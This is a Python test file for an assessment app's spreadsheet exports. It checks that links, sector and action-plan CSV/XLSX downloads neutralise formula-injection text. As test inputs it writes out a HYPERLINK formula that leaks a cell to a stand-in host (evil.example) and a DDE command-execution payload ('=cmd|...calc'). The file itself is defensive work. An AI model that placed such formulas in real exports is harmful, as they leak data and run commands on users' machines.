"""Every download neutralises a text cell that a spreadsheet would run as a formula: the one
helper (assessment.exports), the invitation links CSV, the sector CSV/XLSX, the action plan
CSV/XLSX (tests/app/test_downloads.py); and Streamlit's own table download is switched off
for the whole app."""

import csv
import io
import tomllib
from pathlib import Path

import openpyxl
import pandas as pd
import pytest

from assessment.exports import DANGEROUS_STARTS, csv_bytes, frame_csv, frame_xlsx, neutralise
from assessment.rounds import links_csv
from assessment.sector import to_csv, to_xlsx

ROOT = Path(__file__).resolve().parents[1]
FORMULA = '=HYPERLINK("http://evil.example/?"&A1,"Klik hier")'


def is_safe(value) -> bool:
    """Not a text that a spreadsheet would run (a CSV cell that reads as a number is fine)."""
    if isinstance(value, str):
        try:
            float(value)
        except ValueError:
            return not value.startswith(DANGEROUS_STARTS)
    return True


def csv_cells(data: bytes) -> list[list[str]]:
    return list(csv.reader(io.StringIO(data.decode("utf-8-sig"))))


def xlsx_cells(data: bytes) -> list:
    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
    return [cell for row in sheet.iter_rows() for cell in row]


@pytest.mark.parametrize("text", [FORMULA, "+32 3 123 45 67", "-2+3", "@SUM(A1)", "\t=1+1",
                                  "\r=1+1", "=", "-"])
def test_dangerous_text_gets_an_apostrophe(text):
    assert neutralise(text) == "'" + text


@pytest.mark.parametrize("value", ["Teamoverleg", " =1", "a=b", "", "'=1", 3, -3, 2.5, None,
                                   "’=1"])
def test_everything_else_is_unchanged(value):
    assert neutralise(value) == value


def test_csv_helper_neutralises_header_and_cells_and_keeps_numbers():
    rows = csv_cells(csv_bytes(["=naam", "n"], [[FORMULA, -3], ["gewoon", 4]]))
    assert rows == [["'=naam", "n"], ["'" + FORMULA, "-3"], ["gewoon", "4"]]


def test_frames_as_csv_and_xlsx():
    frame = pd.DataFrame({"actie": [FORMULA, "@Els", "ok"], "cijfer": [-1.5, 2.0, 3.0],
                          "tekst": pd.array(["-x", None, "y"], dtype="string")})
    rows = csv_cells(frame_csv(frame))
    assert rows[1] == ["'" + FORMULA, "-1.5", "'-x"]
    assert all(is_safe(v) for row in rows for v in row)
    cells = xlsx_cells(frame_xlsx(frame))
    assert all(c.data_type != "f" and is_safe(c.value) for c in cells)
    assert [c.value for c in cells[3:6]] == ["'" + FORMULA, -1.5, "'-x"]


def test_invitation_links_csv_neutralises_a_hostile_base_url():
    rows = csv_cells(links_csv("=cmd|' /C calc'!A0#", ["tok"]))
    assert rows[1][1].startswith("'=cmd")
    assert csv_cells(links_csv("https://werkbaar.example.be", ["tok"]))[1] == [
        "1", "https://werkbaar.example.be/s/tok"]


def test_sector_exports_neutralise_text_cells():
    table = pd.DataFrame({"Sector": ["+pc:330", "nace:87"], "Organisaties": [12, 7]})
    assert csv_cells(to_csv(table))[1] == ["'+pc:330", "12"]
    cells = xlsx_cells(to_xlsx(table))
    assert all(is_safe(c.value) and c.data_type != "f" for c in cells)


def test_streamlit_table_download_is_off_for_the_whole_app():
    config = tomllib.loads((ROOT / ".streamlit" / "config.toml").read_text())
    assert config["client"]["disableDataExport"] is True
